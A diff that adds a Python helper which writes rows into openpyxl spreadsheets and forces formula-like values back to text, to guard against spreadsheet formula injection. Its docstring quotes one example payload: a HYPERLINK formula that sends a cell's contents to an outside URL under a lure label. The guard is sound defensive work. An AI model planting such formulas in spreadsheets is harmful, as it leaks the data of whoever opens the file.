@@ -1,0 +1,23 @@
+"""Writing text into spreadsheets safely: what a person or a plan wrote stays text.
+
+openpyxl turns any string that starts with ``=`` into a formula, so a narrative such as
+``=HYPERLINK("http://…?x="&A1,"点击查看附件")`` would become a live formula that runs when the
+secretariat opens the file (spreadsheet formula injection). Every row we write goes through
+:func:`append_text`, which keeps such values as the text they are.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from typing import Any
+
+TEXT = "s"  # openpyxl's data type for a string cell
+FORMULA = "f"
+
+
+def append_text(sheet: Any, values: Sequence[object]) -> None:
+    """Append a row to ``sheet``; a value that would read as a formula is written as text."""
+    sheet.append(list(values))
+    for cell in sheet[sheet.max_row]:
+        if cell.data_type == FORMULA:
+            cell.data_type = TEXT
